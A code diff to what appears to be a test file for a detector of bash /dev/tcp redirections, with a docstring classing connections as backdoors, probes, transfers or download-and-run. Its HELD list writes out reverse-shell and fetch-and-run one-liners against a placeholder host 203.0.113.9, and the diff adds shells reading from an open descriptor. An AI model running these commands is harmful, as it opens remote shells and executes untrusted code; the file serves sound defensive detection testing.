@@ -3,7 +3,8 @@
 A bash ``/dev/tcp`` redirection is judged by what the connection is tied to: a shell, an interpreter, a
 command named at run time or a loop running what it reads from it is a backdoor; opening a descriptor
 (``exec 3<>/dev/tcp/h/p``), ``echo >/dev/tcp/h/p`` and ``</dev/tcp/h/p`` are probes, ``echo >&3`` /
-``cat <&3`` a transfer; what is read from the descriptor into a file and then run is download-and-run.
+``cat <&3`` a transfer; what is read from the descriptor into a file and then run is download-and-run;
+a shell fed a descriptor an earlier call opened (a kept shell's ``sh <&196 >&196``) is asked.
 Measured on port checks, health checks and reverse-shell collections found by code search (outside the
 repository: /work/realworld/fpnet18). The commands here are variants written for the tests: other
 descriptors, shells, wrappers, hosts and spellings than the ones measured.
@@ -27,6 +28,10 @@ HELD = {
         "exec 3<>/dev/tcp/203.0.113.9/8080; printf 'GET /s HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3 | sh",
         "exec 3<>/dev/tcp/203.0.113.9/8080; cat <&3 > /tmp/.u; bash /tmp/.u",
     ],
+    "shell-on-descriptor-of-an-earlier-call": [
+        "dash -i <&77 >&77 2>&77",
+        "nice python3 - <&9",
+    ],
     "shell-output-to-socket": [
         "exec >&/dev/tcp/203.0.113.9/4444 0>&1",
         "sh -i >& /dev/udp/203.0.113.9/53 0>&1",
@@ -45,4 +50,6 @@ ALLOWED = [
     "exec 4<>/dev/tcp/cache/6379; echo PING >&4; read -t 1 pong <&4; exec 4>&-",
     "until nc -z -w 2 postgres 5432; do sleep 1; done",
     "timeout 1 bash -c '</dev/tcp/api.internal/8080' || echo down",
+    "exec 3<commands.txt; bash <&3",
+    "python3 tools/convert.py 3<input.bin <&3",
 ]
